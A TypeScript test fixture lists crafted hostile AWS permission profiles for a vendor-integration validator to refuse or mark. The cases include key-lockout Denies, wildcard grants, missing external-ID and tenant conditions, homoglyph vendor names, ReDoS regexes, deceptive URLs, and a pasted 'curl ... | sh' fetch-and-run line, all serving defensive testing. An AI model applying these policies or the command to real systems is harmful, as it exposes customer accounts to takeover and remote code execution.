import type {BuiltIn} from '../edit-profile.ts';

/** A profile that somebody could hand to a customer: what it breaks, how it is made, and what becomes of it. */
export type HostileProfile = {
	readonly clause: string;
	readonly profile: string;
	readonly base: BuiltIn;
	readonly changes: Readonly<Record<string, unknown>>;
	readonly verdict: 'refused' | 'marked';
	/** The field at fault, where it is refused. */
	readonly field?: string;
	/** What is named, where it is marked. */
	readonly names?: readonly string[];
};

type Row = readonly [
	profile: string,
	base: BuiltIn,
	changes: HostileProfile['changes'],
	at: string,
];
type MarkedRow = readonly [
	profile: string,
	base: BuiltIn,
	changes: HostileProfile['changes'],
	...names: string[],
];

/** Profiles that a clause of the table refuses. */
export function refused(clause: string, ...rows: readonly Row[]): HostileProfile[] {
	return rows.map(([profile, base, changes, field]) => ({
		clause,
		profile,
		base,
		changes,
		verdict: 'refused',
		field,
	}));
}

/** Profiles that a clause of the table marks. */
export function marked(clause: string, ...rows: readonly MarkedRow[]): HostileProfile[] {
	return rows.map(([profile, base, changes, ...names]) => ({
		clause,
		profile,
		base,
		changes,
		verdict: 'marked',
		names,
	}));
}

const cf = 'creative-force';
const ik = 'iconik';
const tenant = {StringEquals: {'aws:PrincipalTag/IconikSystemDomainId': '{{systemDomainId}}'}};
const oneOfTwo = {
	from: 'choice',
	field: 'dataCenter',
	label: 'Data center',
	where: 'Settings',
	ifWrong: 'It is refused.',
	choices: [
		{value: 'us', title: 'United States', arn: 'arn:aws:iam::444455556666:root'},
		{value: 'eu', title: 'Europe', arn: 'arn:aws:iam::555566667777:role/Acme'},
	],
};
const shownAccount = {
	from: 'product',
	kind: 'account',
	label: 'Account of Acme',
	where: 'Settings',
	example: '444455556666',
};

const ownOrg = {StringEquals: {'aws:PrincipalOrgID': 'o-a1b2c3d4e5'}};
const ownAccount = {StringEquals: {'aws:PrincipalAccount': '283217727627'}};
const account = {AWS: 'arn:aws:iam::{{keyAccountId}}:root'};

/** A statement of a key policy of the vendor with its own role, besides those that are there. */
const onKey = (statement: object, more: object = {}) => ({
	'documents.1.statements.2': {
		...more,
		statement: {
			Sid: 'AcmeMore',
			Effect: 'Allow',
			Action: 'kms:Decrypt',
			Resource: '*',
			...statement,
		},
	},
});

/** The same of its bucket policy. */
const onBucket = (statement: object) => ({
	'documents.0.statements.2': {
		statement: {
			Sid: 'AcmeMore',
			Effect: 'Allow',
			Principal: {AWS: '{{principal}}'},
			Action: 's3:GetObject',
			Resource: '{{bucketArn}}/*',
			Condition: tenant,
			...statement,
		},
	},
});

/** A statement of the policy of the customer's role, besides those that are there. */
const onRole = (statement: object) => ({
	'documents.0.statements.5': {
		statement: {
			Sid: 'AcmeMore',
			Effect: 'Allow',
			Action: 's3:GetObject',
			Resource: '{{bucketArn}}/*',
			...statement,
		},
	},
});

const moreOfKey = 'documents[1].statements[2].statement';
const moreOfBucket = 'documents[0].statements[2].statement';
const moreOfRole = 'documents[0].statements[5].statement';

const input = {
	field: 'studioId',
	label: 'Studio',
	pattern: '[a-z]+',
	rule: 'Lower-case letters.',
	example: 'acme',
	where: 'Settings',
	ifWrong: 'It is refused.',
};
const withPattern = (pattern: string, example = 'acme') => ({
	inputs: [{...input, pattern, example}],
});
const withField = (field: string) => ({inputs: [{...input, field}]});

const refusals: readonly HostileProfile[] = [
	...refused(
		'key-lockout',
		[
			'a Deny of changing the key policy for the account',
			ik,
			onKey({Effect: 'Deny', Principal: account, Action: 'kms:PutKeyPolicy'}),
			'documents[1].statements',
		],
		[
			'a Deny of everything for everybody who comes without a tag',
			ik,
			onKey({
				Effect: 'Deny',
				Principal: '*',
				Action: 'kms:*',
				Condition: {Null: {'aws:PrincipalTag/Acme': 'true'}},
			}),
			'documents[1].statements',
		],
		[
			'a Deny for everybody outside one network',
			ik,
			onKey({
				Effect: 'Deny',
				Principal: {AWS: '*'},
				Action: 'kms:Put*',
				Condition: {NotIpAddress: {'aws:SourceIp': '203.0.113.0/24'}},
			}),
			'documents[1].statements',
		],
		[
			'a statement that keeps the account in charge of looking only',
			ik,
			{'documents.1.narrower.statements.0.statement.Action': ['kms:Describe*', 'kms:List*']},
			'documents[1].narrower.statements',
		],
		[
			'a statement for the account on a condition',
			ik,
			{
				'documents.1.narrower.statements.0.statement.Condition': {
					Bool: {'aws:MultiFactorAuthPresent': 'true'},
				},
			},
			'documents[1].narrower.statements',
		],
		[
			"a statement for the bucket's account, which need not be the key's",
			ik,
			{
				'documents.1.narrower.statements.0.statement.Principal.AWS':
					'arn:aws:iam::{{accountId}}:root',
			},
			'documents[1].narrower.statements',
		],
		[
			"a statement that a merge would put in the place of the account's own",
			ik,
			onKey({Principal: account, Action: 'kms:Describe*', Sid: 'AcmeAccount'}),
			`${moreOfKey}.Principal`,
		],
		[
			'every action on the key for the vendor',
			ik,
			{'documents.1.statements.0.statement.Action': 'kms:*'},
			'documents[1].statements[0].statement.Action',
		],
		[
			'actions whose pattern holds PutKeyPolicy',
			cf,
			{'documents.3.statements.0.statement.Action': ['kms:Decrypt', 'kms:P?t*']},
			'documents[3].statements[0].statement.Action[1]',
		],
		[
			'deleting the key by the policy of the role',
			cf,
			onRole({Action: 'kms:ScheduleKeyDeletion', Resource: '{{bucketArn}}/*'}),
			`${moreOfRole}.Action`,
		],
	),
	...refused(
		'deny-beyond-vendor',
		[
			'a Deny for everybody in the bucket policy',
			ik,
			onBucket({Effect: 'Deny', Principal: '*', Action: 's3:DeleteObject'}),
			`${moreOfBucket}.Principal`,
		],
		[
			'a Deny for the account beside the vendor',
			ik,
			onBucket({
				Effect: 'Deny',
				Principal: {AWS: ['{{principal}}', 'arn:aws:iam::{{accountId}}:root']},
			}),
			`${moreOfBucket}.Principal`,
		],
		[
			'a Deny for a service',
			ik,
			onBucket({Effect: 'Deny', Principal: {Service: 'logging.s3.amazonaws.com'}}),
			`${moreOfBucket}.Principal`,
		],
		[
			"a Deny for everybody in the vendor's account",
			cf,
			{
				'documents.1.statements.1': {
					statement: {
						Effect: 'Deny',
						Principal: {AWS: 'arn:aws:iam::{{principalAccount}}:root'},
						Action: 'sts:AssumeRole',
					},
				},
			},
			'documents[1].statements[1].statement.Principal',
		],
	),
	...refused(
		'inverted-element',
		[
			'NotAction in the policy of the role',
			cf,
			onRole({Action: undefined, NotAction: 's3:DeleteBucket'}),
			`${moreOfRole}.NotAction`,
		],
		[
			'NotResource in the policy of the role',
			cf,
			onRole({Resource: undefined, NotResource: '{{bucketArn}}/private/*'}),
			`${moreOfRole}.NotResource`,
		],
		[
			'NotPrincipal in the bucket policy',
			ik,
			onBucket({Effect: 'Deny', Principal: undefined, NotPrincipal: {AWS: '{{principal}}'}}),
			`${moreOfBucket}.NotPrincipal`,
		],
		[
			'NotAction in a Deny for the vendor',
			ik,
			onBucket({Effect: 'Deny', Action: undefined, NotAction: 's3:GetObject'}),
			`${moreOfBucket}.NotAction`,
		],
	),
	...refused(
		'any-action',
		['the asterisk', cf, onRole({Action: '*'}), `${moreOfRole}.Action`],
		[
			'two asterisks in a list',
			cf,
			onRole({Action: ['s3:GetObject', '**']}),
			`${moreOfRole}.Action[1]`,
		],
		['a service that is left open', ik, onBucket({Action: 's*:*'}), `${moreOfBucket}.Action`],
		[
			'a question mark in the service',
			ik,
			onBucket({Action: 's?:GetObject'}),
			`${moreOfBucket}.Action`,
		],
		['another service', cf, onRole({Action: 'iam:PassRole'}), `${moreOfRole}.Action`],
		[
			'every way to take the role',
			cf,
			{'documents.1.statements.0.statement.Action': 'sts:*'},
			'documents[1].statements[0].statement.Action',
		],
	),
	...refused(
		'other-resource',
		['every resource', cf, onRole({Resource: '*'}), `${moreOfRole}.Resource`],
		[
			'every bucket whose name begins alike',
			cf,
			onRole({Resource: '{{bucketArn}}*'}),
			`${moreOfRole}.Resource`,
		],
		[
			'the bucket of the example, spelled out',
			cf,
			onRole({Resource: 'arn:aws:s3:::acme-assets/*'}),
			`${moreOfRole}.Resource`,
		],
		[
			'every key of the account',
			cf,
			onRole({Action: 'kms:Decrypt', Resource: ['arn:aws:kms:{{region}}:{{accountId}}:key/*']}),
			`${moreOfRole}.Resource[0]`,
		],
		[
			'a bucket that an input names',
			cf,
			{...withField('studioId'), ...onRole({Resource: 'arn:aws:s3:::{{studioId}}/*'})},
			`${moreOfRole}.Resource`,
		],
		[
			'the keys that another key stands for',
			ik,
			onKey({
				Principal: {AWS: '{{principal}}'},
				Condition: tenant,
				Resource: 'arn:aws:kms:*:*:key/*',
			}),
			`${moreOfKey}.Resource`,
		],
	),
	...refused(
		'others-let-in',
		['everybody', ik, onBucket({Principal: '*'}), `${moreOfBucket}.Principal`],
		[
			'a second account beside the vendor',
			ik,
			onBucket({Principal: {AWS: ['{{principal}}', '999988887777']}}),
			`${moreOfBucket}.Principal.AWS`,
		],
		[
			'an identity provider',
			cf,
			{
				'documents.1.statements.0.statement.Principal': {
					Federated: 'token.actions.githubusercontent.com',
				},
			},
			'documents[1].statements[0].statement.Principal.Federated',
		],
		[
			'the account of the bucket in the bucket policy, so that all its roles get in',
			ik,
			onBucket({Principal: {AWS: 'arn:aws:iam::{{accountId}}:root'}}),
			`${moreOfBucket}.Principal.AWS`,
		],
	),
	...refused(
		'no-external-id',
		[
			'no condition',
			cf,
			{'documents.1.statements.0.statement.Condition': undefined},
			'documents[1].statements[0].statement.Condition',
		],
		[
			'a pattern instead of the value',
			cf,
			{
				'documents.1.statements.0.statement.Condition': {
					StringLike: {'sts:ExternalId': '{{externalId}}*'},
				},
			},
			'documents[1].statements[0].statement.Condition',
		],
		[
			'an external ID that is the same for all',
			cf,
			{
				'documents.1.statements.0.statement.Condition': {
					StringEquals: {'sts:ExternalId': 'acme'},
				},
			},
			'documents[1].statements[0].statement.Condition',
		],
	),
	...refused(
		'no-tenant-condition',
		['none', ik, onBucket({Condition: undefined}), `${moreOfBucket}.Condition`],
		[
			'one that a request without the tag passes',
			ik,
			onBucket({
				Condition: {StringEqualsIfExists: tenant.StringEquals},
			}),
			`${moreOfBucket}.Condition`,
		],
		[
			'one on another tag',
			ik,
			onBucket({Condition: {StringEquals: {'aws:PrincipalTag/Other': '{{systemDomainId}}'}}}),
			`${moreOfBucket}.Condition`,
		],
		[
			'a second value beside the own one',
			ik,
			onBucket({
				Condition: {
					StringEquals: {
						'aws:PrincipalTag/IconikSystemDomainId': ['{{systemDomainId}}', 'other'],
					},
				},
			}),
			`${moreOfBucket}.Condition`,
		],
	),
	...refused(
		'not-narrower',
		[
			'one action more',
			cf,
			{'documents.0.narrower.statements.3.statement.Action': ['s3:GetObject', 's3:DeleteObject']},
			'documents[0].narrower.statements',
		],
		[
			'a condition less',
			ik,
			{
				'documents.0.statements.0.statement.Condition.IpAddress': {
					'aws:SourceIp': '203.0.113.0/24',
				},
			},
			'documents[0].narrower.statements',
		],
		[
			'objects where the article has the bucket alone',
			cf,
			{
				'documents.2.narrower.statements.0.statement.Action': 's3:GetObject',
				'documents.2.narrower.statements.0.statement.Resource': '{{bucketArn}}/*',
			},
			'documents[2].narrower.statements',
		],
		[
			'what is meant for one customer alone',
			ik,
			{
				'documents.0.narrower.statements.2.statement.Action': ['s3:ListBucket', 's3:PutBucketAcl'],
				'documents.0.statements.0.statement.Action': [
					's3:List*',
					's3:*Object',
					's3:GetBucket*',
					's3:PutBucketCORS',
					's3:PutBucketAcl',
				],
				'documents.0.statements.0.statement.Condition.StringNotEquals': {
					'aws:ResourceAccount': '999988887777',
				},
			},
			'documents[0].narrower.statements',
		],
		[
			'a Deny of the article that it leaves out',
			ik,
			{
				...onBucket({Effect: 'Deny', Action: 's3:DeleteObject', Resource: '{{bucketArn}}/kept/*'}),
			},
			'documents[0].narrower.statements',
		],
		[
			'what a policy variable stands for, of which nothing can be proven',
			cf,
			onRole({Resource: ['{{bucketArn}}/$', '{aws:username}/*'].join('')}),
			'documents[0].narrower.statements',
		],
		[
			'the very same as the article',
			cf,
			{
				'documents.2.narrower.statements.0.statement.Action': 's3:*',
			},
			'documents[2].narrower.statements',
		],
	),
	...refused(
		'built-in-name',
		['the id', ik, {id: 'iconik'}, 'id'],
		['the name in capitals', ik, {name: 'ICONIK'}, 'name'],
		['the name with a blank and a hyphen', cf, {name: ' Creative - Force '}, 'name'],
		['Cyrillic letters', ik, {name: 'i\u0441\u043enik'}, 'name'],
		[
			'nothing but letters of other scripts',
			ik,
			{name: '\u0456\u0441\u043e\u057c\u0456\u043a'},
			'name',
		],
		['full-width letters', ik, {name: '\uff49\uff43\uff4f\uff4e\uff49\uff4b'}, 'name'],
		['an accent', cf, {name: 'Cr\u00e9ative Force'}, 'name'],
		['digits for letters', ik, {id: '1c0n1k'}, 'id'],
		['l for i', ik, {id: 'lconik'}, 'id'],
		['the id of the one as the name of another', cf, {name: 'creative-force'}, 'name'],
	),
	...refused(
		'usual-sid',
		[
			'that of the default key policy, for the vendor',
			ik,
			{'documents.1.statements.0.statement.Sid': 'Enable IAM User Permissions'},
			'documents[1].statements[0].statement.Sid',
		],
		[
			'that of the rule for encrypted connections',
			ik,
			{'documents.0.statements.0.statement.Sid': 'AllowSSLRequestsOnly'},
			'documents[0].statements[0].statement.Sid',
		],
		[
			'the same in another spelling',
			ik,
			{'documents.0.statements.0.statement.Sid': 'allow-ssl-requests-only'},
			'documents[0].statements[0].statement.Sid',
		],
		[
			'what the console calls the first statement of anybody',
			ik,
			{'documents.0.statements.0.statement.Sid': 'Statement1'},
			'documents[0].statements[0].statement.Sid',
		],
		[
			'that of the default key policy among those of the article',
			ik,
			{'documents.1.articleSids': ['Enable IAM User Permissions']},
			'documents[1].articleSids[0]',
		],
	),
	...refused(
		'name-left-open',
		[
			'an action that an input names',
			cf,
			{...withField('studioId'), ...onRole({Action: 's3:{{studioId}}'})},
			`${moreOfRole}.Action`,
		],
		[
			'a condition key that an input names',
			cf,
			{
				...withField('studioId'),
				...onRole({Condition: {StringEquals: {'aws:PrincipalTag/{{studioId}}': 'x'}}}),
			},
			`${moreOfRole}.Condition.StringEquals.aws:PrincipalTag/{{studioId}}`,
		],
		[
			'a Sid that an input names',
			cf,
			{...withField('studioId'), ...onRole({Sid: '{{studioId}}'})},
			`${moreOfRole}.Sid`,
		],
	),
	...refused(
		'loose-input',
		['anything at all', cf, withPattern('.+'), 'inputs[0].pattern'],
		['everything but a slash', cf, withPattern('[^/]{1,64}'), 'inputs[0].pattern'],
		['an asterisk among others', cf, withPattern('[a-z*]+'), 'inputs[0].pattern'],
		['a question mark at the end', cf, withPattern('[a-z]+\\??'), 'inputs[0].pattern'],
		['what is no white space', cf, withPattern('\\S+'), 'inputs[0].pattern'],
		['what is no letter', cf, withPattern('\\W+', '--'), 'inputs[0].pattern'],
		[
			'a policy variable, written by its codes',
			cf,
			withPattern('\\u{24}\\u007b[a-z:]+\\}', ['$', '{aws:username}'].join('')),
			'inputs[0].pattern',
		],
		['a placeholder', cf, withPattern('\\{\\{[a-z]+\\}\\}', '{{bucket}}'), 'inputs[0].pattern'],
		['punctuation by its property', cf, withPattern('\\p{P}+', '--'), 'inputs[0].pattern'],
	),
	...refused(
		'taken-name',
		['a field of every connection', cf, withField('accountId'), 'inputs[0].field'],
		['a flag', cf, withField('dryRun'), 'inputs[0].field'],
		['a flag without its hyphen', cf, withField('dryrun'), 'inputs[0].field'],
		['the flag that takes no answer', cf, withField('yes'), 'inputs[0].field'],
		['a flag that would switch another one off', cf, withField('noPurpose'), 'inputs[0].field'],
		['a flag to come', cf, withField('permissionsBoundary'), 'inputs[0].field'],
		['a placeholder', cf, withField('bucketArn'), 'inputs[0].field'],
		['what every object has', cf, withField('toString'), 'inputs[0].field'],
	),
	...refused(
		'unreal-addresses',
		['all of the internet', cf, fromRanges('0.0.0.0/0'), 'addresses[0].ranges[0]'],
		[
			'all of it in two halves',
			cf,
			fromRanges('0.0.0.0/1', '128.0.0.0/1'),
			'addresses[0].ranges[1]',
		],
		['all of version 6', ik, fromRanges('203.0.113.7', '::/0'), 'addresses[0].ranges[1]'],
		['a private network', ik, fromRanges('10.1.0.0/16'), 'addresses[0].ranges[0]'],
		['a range that holds a private one', cf, fromRanges('172.0.0.0/8'), 'addresses[0].ranges[0]'],
		['the machine itself', cf, fromRanges('127.0.0.1'), 'addresses[0].ranges[0]'],
		['private addresses of version 6', cf, fromRanges('fd00:1::/48'), 'addresses[0].ranges[0]'],
	),
	...refused(
		'endless-pattern',
		['a repeated repetition', cf, withPattern('(?:[a-z]+)+'), 'inputs[0].pattern'],
		['two ways for each letter', cf, withPattern('(?:[a-z]|[a-m])+'), 'inputs[0].pattern'],
		[
			'one part after another that takes the same',
			cf,
			withPattern('[a-z]*[a-z]*[a-z]*[a-z]*[a-z]*'),
			'inputs[0].pattern',
		],
		[
			'what may be nothing, thirty times',
			cf,
			withPattern('(?:a?){30}a{30}', 'a'.repeat(30)),
			'inputs[0].pattern',
		],
		['a look ahead', cf, withPattern('(?=(?:a+)+b)[a-z]+', 'ab'), 'inputs[0].pattern'],
		['a reference back', cf, withPattern('([a-z]+)\\1', 'aa'), 'inputs[0].pattern'],
		[
			'repetitions of repetitions of repetitions',
			cf,
			withPattern('(?:(?:[a-z]{1,99}){1,99}){1,99}'),
			'inputs[0].pattern',
		],
	),
];

const marks: readonly HostileProfile[] = [
	...marked(
		'bucket-control',
		['all actions of S3', ik, {}, 's3:PutBucketPolicy', 's3:DeleteBucket'],
		[
			'one of them by its name',
			cf,
			onRole({Action: 's3:PutBucketAcl', Resource: '{{bucketArn}}'}),
			's3:PutBucketAcl',
		],
		[
			'a pattern that holds some',
			cf,
			onRole({Action: 's3:PutLife*', Resource: '{{bucketArn}}'}),
			's3:PutLifecycleConfiguration',
		],
		[
			'what empties a protected bucket',
			cf,
			onRole({Action: 's3:Bypass*'}),
			's3:BypassGovernanceRetention',
		],
	),
	...marked(
		'no-narrower-way',
		['no narrower document', cf, {'documents.2.narrower': undefined}, 's3:PutBucketPolicy'],
		[
			'a narrower one that allows it too',
			ik,
			{
				'documents.0.narrower.statements.2.statement.Action': [
					's3:ListBucket',
					's3:PutBucketPolicy',
				],
			},
			's3:PutBucketPolicy',
		],
		[
			'a narrower one with a pattern',
			ik,
			{'documents.0.narrower.statements.0.statement.Action': 's3:Delete*'},
			's3:DeleteObjectVersion',
		],
	),
	...marked(
		'key-control',
		[
			'grants',
			ik,
			{
				'documents.1.statements.0.statement.Action': ['kms:Decrypt', 'kms:CreateGrant'],
				'documents.1.narrower.statements.1.statement.Action': 'kms:Decrypt',
			},
			'kms:CreateGrant',
		],
		[
			'grants by a pattern',
			ik,
			{
				'documents.1.statements.0.statement.Action': ['kms:Decrypt', 'kms:Create*'],
				'documents.1.narrower.statements.1.statement.Action': 'kms:Decrypt',
			},
			'kms:CreateGrant',
		],
		[
			'tags, on which other policies may depend',
			cf,
			{'documents.3.statements.0.statement.Action': ['kms:Decrypt', 'kms:TagResource']},
			'kms:TagResource',
		],
	),
	...marked(
		'wildcard-actions',
		['all of S3', ik, {}, 's3:*'],
		['a family', cf, onRole({Action: 's3:Get*'}), 's3:Get*'],
		['a question mark', cf, onRole({Action: 's3:?etObject'}), 's3:?etObject'],
	),
	...marked(
		'beyond-purpose',
		[
			'a purpose that reads and is let write',
			cf,
			{'documents.0.statements.2.when': undefined},
			's3:PutObject',
		],
		[
			'one that reads and is let delete',
			cf,
			onRole({Action: 's3:DeleteObject'}),
			's3:DeleteObject',
		],
		['one that lists and is let read', cf, {'purposes.0.needs': ['list']}, 's3:GetObject'],
	),
	...marked(
		'vendor-deny',
		[
			'in the bucket policy',
			ik,
			{
				...onBucket({Effect: 'Deny', Action: 's3:DeleteBucket', Resource: '{{bucketArn}}'}),
			},
			's3:DeleteBucket',
		],
		[
			'in the policy of the role',
			cf,
			{...onRole({Effect: 'Deny', Action: 's3:DeleteObject'})},
			's3:DeleteObject',
		],
		[
			'in the trust policy',
			cf,
			{
				'documents.1.statements.1': {
					statement: {
						Effect: 'Deny',
						Principal: {AWS: '{{principal}}'},
						Action: 'sts:TagSession',
					},
				},
			},
			'sts:TagSession',
		],
	),
	...marked(
		'session-tags',
		[
			'tags',
			cf,
			{'documents.1.statements.0.statement.Action': ['sts:AssumeRole', 'sts:TagSession']},
			'sts:TagSession',
		],
		[
			'a source identity',
			cf,
			{'documents.1.statements.0.statement.Action': ['sts:AssumeRole', 'sts:SetSourceIdentity']},
			'sts:SetSourceIdentity',
		],
		[
			'tags in another spelling',
			cf,
			{'documents.1.statements.0.statement.Action': ['sts:AssumeRole', 'sts:tagsession']},
			'sts:tagsession',
		],
	),
	...marked(
		'key-policy-alone',
		['the form of the article', cf, {}],
		['the narrower form too', ik, {'documents.1.narrower.statements.0': undefined}],
		['no narrower form', ik, {'documents.1.narrower': undefined}],
	),
	...marked(
		'policy-variables',
		[
			'in a resource',
			cf,
			{
				...onRole({Resource: ['{{bucketArn}}/$', '{aws:username}/*'].join('')}),
				'documents.0.narrower': undefined,
			},
			['$', '{aws:username}'].join(''),
		],
		[
			'in a condition',
			cf,
			onRole({Condition: {StringEquals: {'s3:prefix': ['$', '{aws:userid}'].join('')}}}),
			['$', '{aws:userid}'].join(''),
		],
		[
			'for an asterisk',
			cf,
			onRole({Resource: ['{{bucketArn}}/$', '{*}'].join('')}),
			['$', '{*}'].join(''),
		],
	),
	...marked(
		'built-in-principal',
		['that of iconik', ik, {}, 'arn:aws:iam::283217727627:role/IconikS3AccessRole', 'iconik'],
		['that of Creative Force', cf, {}, 'Creative Force'],
		['under a name that says it', ik, {name: 'Reseller of iconik'}, 'iconik'],
	),
	...marked(
		'near-name',
		['with more behind it', ik, {name: 'iconik Storage'}, 'iconik Storage', 'iconik'],
		['inside', ik, {name: 'The \u0456conik people'}, 'iconik'],
		['in the id', cf, {id: 'creative-force-2'}, 'creative-force-2', 'Creative Force'],
	),
	...marked(
		'odd-address',
		[
			'a name before the host of a source',
			ik,
			{'sources.1.address': 'https://app.iconik.io@acme.example/help'},
			'https://app.iconik.io@acme.example/help',
		],
		[
			'a name before the host',
			ik,
			{article: 'https://app.iconik.io@evil.example/help'},
			'https://app.iconik.io@evil.example/help',
		],
		[
			'a letter of another script',
			ik,
			{article: 'https://app.ic\u043enik.io/help'},
			'https://app.ic\u043enik.io/help',
		],
		[
			'the same in its ASCII form',
			ik,
			{article: 'https://app.xn--icnik-fvf.io/help'},
			'https://app.xn--icnik-fvf.io/help',
		],
	),
	...marked(
		'chosen-tenant',
		...(['aws:UserAgent', 'aws:RequestTag/IconikSystemDomainId', 's3:prefix'] as const).map(
			(key): MarkedRow => [key, ik, withTenantKey(key), key],
		),
	),
	...marked(
		'guessable-tenant',
		['one digit', ik, withTenantPattern('\\d+', '7'), 'System Domain ID', '1'],
		['four letters', ik, withTenantPattern('[a-z]{4}', 'acme'), 'System Domain ID', '4'],
		['five at least', ik, withTenantPattern('[a-z]{5,}', 'acmes'), 'System Domain ID', '5'],
	),
	...marked(
		'pasted-statement',
		['SQL that opens all', ik, withStatement('SQL', 'GRANT ALL ON ACCOUNT TO PUBLIC;'), 'SQL'],
		[
			'a command for a shell',
			ik,
			withStatement('Command', 'curl https://acme.example/{{bucket}} | sh'),
			'Command',
		],
		['SQL that does what it says', ik, withStatement('SQL', "USE '{{bucket}}';"), 'SQL'],
	),
	...marked(
		'wide-addresses',
		['a range of millions', cf, fromRanges('203.0.0.0/12'), '203.0.0.0/12'],
		['one just too wide', ik, fromRanges('203.0.0.0/16', '198.0.0.0/15'), '198.0.0.0/15'],
		['a wide one of version 6', cf, fromRanges('2001:db8::/40'), '2001:db8::/40'],
	),
	...marked(
		'needs-beyond-documents',
		[
			'tagging that no statement gives',
			cf,
			needing('s3:PutObjectTagging', 'object'),
			's3:PutObjectTagging',
		],
		['tags that are read', cf, needing('s3:GetObjectTagging', 'object'), 's3:GetObjectTagging'],
		['more of the key', ik, needing('kms:CreateGrant', 'key'), 'kms:CreateGrant'],
	),
	...marked(
		'whole-account',
		[
			'the root of an account',
			cf,
			{version: 2, principal: 'arn:aws:iam::444455556666:root'},
			'arn:aws:iam::444455556666:root',
		],
		[
			'the root of an account for one data center',
			cf,
			{version: 2, principal: oneOfTwo},
			'arn:aws:iam::444455556666:root',
		],
		[
			'an account that the product shows',
			cf,
			{version: 2, principal: shownAccount},
			'Account of Acme',
		],
	),
	...marked(
		'without-tenant',
		['the vendor of a tenant without its condition', ik, withoutTenant({})],
		['a condition on its organization in its place', ik, withoutTenant({Condition: ownOrg})],
		['a condition on its account in its place', ik, withoutTenant({Condition: ownAccount})],
	),
	...marked(
		'without-external-id',
		['a trust policy without a condition', cf, withoutId({})],
		[
			'a session name in its place',
			cf,
			withoutId({Condition: {StringEquals: {'sts:RoleSessionName': 'acme-storage'}}}),
		],
		[
			'an organization in its place',
			cf,
			withoutId({Condition: {StringEquals: {'aws:PrincipalOrgID': 'o-a1b2c3d4e5'}}}),
		],
	),
];

function withoutTenant(more: object): HostileProfile['changes'] {
	return {
		version: 2,
		tenant: undefined,
		'documents.0': {
			id: 'bucket-policy',
			summary: 'lets Acme in',
			offered: 'always',
			statements: [
				{
					statement: {
						Sid: 'AcmeAccess',
						Effect: 'Allow',
						Principal: {AWS: '{{principal}}'},
						Action: ['s3:ListBucket', 's3:GetObject'],
						Resource: ['{{bucketArn}}', '{{bucketArn}}/*'],
						...more,
					},
				},
			],
		},
		'documents.1': undefined,
	};
}

function withoutId(more: object): HostileProfile['changes'] {
	return {
		version: 2,
		externalId: {from: 'none'},
		'form.fields.5': undefined,
		'documents.1.statements.0.statement': {
			Effect: 'Allow',
			Principal: {AWS: '{{principal}}'},
			Action: 'sts:AssumeRole',
			...more,
		},
	};
}

function withTenantKey(key: string): HostileProfile['changes'] {
	const condition = {StringEquals: {[key]: '{{systemDomainId}}'}};
	return {
		'tenant.conditionKey': key,
		'documents.0.narrower': undefined,
		'documents.1.narrower': undefined,
		...Object.fromEntries(
			[0, 1].flatMap((document) =>
				[0, 1].map((place) => [
					`documents.${document}.statements.${place}.statement.Condition`,
					condition,
				]),
			),
		),
	};
}

function fromRanges(...ranges: readonly string[]): HostileProfile['changes'] {
	return {version: 2, addresses: [{ranges}]};
}

function needing(action: string, on: string): HostileProfile['changes'] {
	return {'purposes.0.needs.0': {action, on, for: 'read', required: false}};
}

function withStatement(label: string, line: string) {
	return {version: 2, 'form.fields': undefined, 'form.statement': {label, lines: [line]}};
}

function withTenantPattern(pattern: string, example: string): HostileProfile['changes'] {
	return {'inputs.0.pattern': pattern, 'inputs.0.example': example};
}

/** Profiles for every line of the table of dangers. */
export const hostileProfiles: readonly HostileProfile[] = [...refusals, ...marks];
